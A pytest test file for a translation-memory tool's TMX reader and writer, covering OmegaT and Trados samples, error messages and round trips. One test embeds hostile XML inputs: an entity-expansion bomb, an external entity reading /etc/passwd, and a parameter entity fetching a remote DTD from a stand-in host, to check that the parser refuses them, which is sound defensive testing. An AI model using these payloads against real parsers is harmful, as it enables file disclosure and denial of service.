"""TMX in and out: files as OmegaT and Trados write them, hostile files, round trips."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bilingue.errors import TmError
from bilingue.formats.tmx import read_tmx, write_tmx
from bilingue.tm import TmUnit, open_memory

SAMPLES = Path(__file__).parent / "data" / "tm"

# As OmegaT 4 writes project_save.tmx: TMX 1.1 `lang`, a DOCTYPE naming a DTD that is
# not there (it must not be fetched), a comment, the translator on the English tuv.
OMEGAT = (SAMPLES / "omegat-project_save.tmx").read_text(encoding="utf-8")

# As Trados Studio exports a TM: TMX 1.4, upper-case locales, header props, usage
# attributes, x- props, a note, empty bpt/ept/ph codes, a Trados 2007-style RTF bpt,
# an isolated it, a hi around text, and a unit with only the French side.
TRADOS = (SAMPLES / "trados-studio-export.tmx").read_text(encoding="utf-8")


def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def test_omegat_tmx(tmp_path: Path) -> None:
    content = read_tmx(write(tmp_path, "project_save.tmx", OMEGAT))
    assert content.units == (
        TmUnit(
            "Le CNES et Roscosmos signent un accord.",
            "CNES and Roscosmos sign an agreement.",
            created="2013-05-17T10:15:00Z",
            author="claire",
        ),
        TmUnit(
            "Paris, le 17 mai 2013",
            "Paris, 17 May 2013",
            document="cnes-2013.docx",
            segment_id="p4.s2",
            created="2013-05-16T09:10:00Z",
            author="paul",
        ),
    )
    assert content.skipped == 0
    assert content.languages == ("fr-FR", "en-GB", "fr", "en")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_trados_tmx(tmp_path: Path, encoding: str) -> None:
    text = TRADOS.replace('encoding="utf-8"', f'encoding="{encoding}"')
    content = read_tmx(write(tmp_path, "export.tmx", text, encoding))
    assert [(u.source, u.target) for u in content.units] == [
        ("Le lanceur Soyouz a décollé.", "The Soyuz launcher lifted off."),
        ("Contact presse : Pascale Bresson", "Press contact: Pascale Bresson"),
    ]
    first = content.units[0]
    # The last change is the approval: its date and author win over the creation.
    assert (first.created, first.author) == ("2013-05-21T08:00:00Z", "CNES\\mmartin")
    assert content.units[1].author == "CNES\\jdupont"
    assert content.skipped == 1


def test_a_tmx_without_the_language_pair_names_what_it_has(tmp_path: Path) -> None:
    text = OMEGAT.replace('lang="en-GB"', 'lang="de-DE"').replace('lang="en"', 'lang="it"')
    path = write(tmp_path, "de.tmx", text)
    with pytest.raises(TmError) as caught:
        read_tmx(path)
    assert caught.value.line() == (
        f"{path}: no fr→en pairs (languages found: fr-FR, de-DE, fr, it)"
    )


BOMB = """<?xml version="1.0"?>
<!DOCTYPE tmx [
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<tmx version="1.4"><header/><body><tu>
  <tuv xml:lang="fr"><seg>&c;</seg></tuv><tuv xml:lang="en"><seg>x</seg></tuv>
</tu></body></tmx>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header/><body><tu>
  <tuv xml:lang="fr"><seg>&secret;</seg></tuv><tuv xml:lang="en"><seg>x</seg></tuv>
</tu></body></tmx>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<tmx version="1.4"><header/><body/></tmx>
"""


@pytest.mark.parametrize("text", [BOMB, EXTERNAL, PARAMETER], ids=["bomb", "external", "param"])
def test_entity_declarations_are_refused(tmp_path: Path, text: str) -> None:
    path = write(tmp_path, "hostile.tmx", text)
    with pytest.raises(TmError) as caught:
        read_tmx(path)
    assert caught.value.message.startswith("refused: the file declares XML entities")
    assert caught.value.path == str(path)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("<tmx><body><tu></body></tmx>", "not well-formed XML (line 1, column 18)"),
        ("", "not well-formed XML (line 1, column 1)"),
        ('<xliff version="2.0"/>', "not a TMX file (root element is <xliff>)"),
    ],
)
def test_broken_files_are_one_line_errors(tmp_path: Path, text: str, message: str) -> None:
    path = write(tmp_path, "bad.tmx", text)
    with pytest.raises(TmError) as caught:
        read_tmx(path)
    assert caught.value.message == message


UNITS = [
    TmUnit(
        "L’ESA & le CNES <lancent> « Ariane 6 ».",
        'ESA & CNES "launch" <Ariane 6>.',
        document="release.docx",
        segment_id="p1.s1",
        created="2026-11-25T21:00:00Z",
        engine="apertium",
        glossary_version="space-3",
        author="Claire Dupont",
    ),
    TmUnit("Bonjour.", "Hello."),
]


def test_export_writes_a_tmx_14b_header_and_props(tmp_path: Path) -> None:
    path = tmp_path / "out.tmx"
    assert write_tmx(UNITS, path, tool_version="0.1.0") == 2
    root = ElementTree.parse(path).getroot()
    assert root.tag == "tmx" and root.get("version") == "1.4"
    header = root.find("header")
    assert header is not None
    required = ("creationtool", "creationtoolversion", "segtype", "o-tmf", "adminlang")
    assert all(header.get(name) for name in (*required, "srclang", "datatype"))
    assert (header.get("srclang"), header.get("segtype")) == ("fr", "sentence")
    first = root.findall("body/tu")[0]
    assert {p.get("type"): p.text for p in first.findall("prop")} == {
        "x-document": "release.docx",
        "x-segment-id": "p1.s1",
        "x-engine": "apertium",
        "x-glossary-version": "space-3",
    }
    assert (first.get("creationdate"), first.get("creationid")) == (
        "20261125T210000Z",
        "Claire Dupont",
    )
    langs = [tuv.get("{http://www.w3.org/XML/1998/namespace}lang") for tuv in first]
    assert langs[-2:] == ["fr", "en"]


def test_export_is_valid_against_the_tmx_14b_content_model(tmp_path: Path) -> None:
    from lxml import etree  # type: ignore[import-untyped]

    path = tmp_path / "out.tmx"
    write_tmx(UNITS, path, tool_version="0.1.0")
    dtd = etree.DTD(str(SAMPLES / "tmx14-subset.dtd"))
    document = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True))
    assert dtd.validate(document), dtd.error_log.filter_from_errors()


def test_export_then_import_into_an_empty_memory_gives_the_same_pairs(tmp_path: Path) -> None:
    with open_memory(tmp_path / "a.sqlite") as first:
        first.add(UNITS)
        write_tmx(first.units(), tmp_path / "out.tmx")
    with open_memory(tmp_path / "b.sqlite") as second:
        assert second.add(read_tmx(tmp_path / "out.tmx").units) == len(UNITS)
        assert list(second.units()) == UNITS


# Any text XML 1.0 can hold (so no control characters but tab, LF and CR).
_xml_text = st.text(
    alphabet=st.characters(
        blacklist_categories=["Cs"],
        blacklist_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)] + ["\ufffe"],
    ),
    min_size=1,
).filter(str.strip)
_meta = st.text(alphabet=st.characters(categories=["L", "N", "P", "Zs"]), max_size=12)
_dates = st.datetimes(min_value=datetime(1990, 1, 1), max_value=datetime(2100, 1, 1)).map(
    lambda d: d.strftime("%Y-%m-%dT%H:%M:%SZ")
)
_units = st.builds(
    TmUnit,
    source=_xml_text,
    target=_xml_text,
    document=_meta,
    segment_id=_meta,
    created=st.just("") | _dates,
    engine=_meta,
    glossary_version=_meta,
    author=_meta,
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(units=st.lists(_units, max_size=6))
def test_any_units_round_trip_through_tmx(units: list[TmUnit], tmp_path: Path) -> None:
    path = tmp_path / "round.tmx"
    write_tmx(units, path)
    assert list(read_tmx(path).units) == units
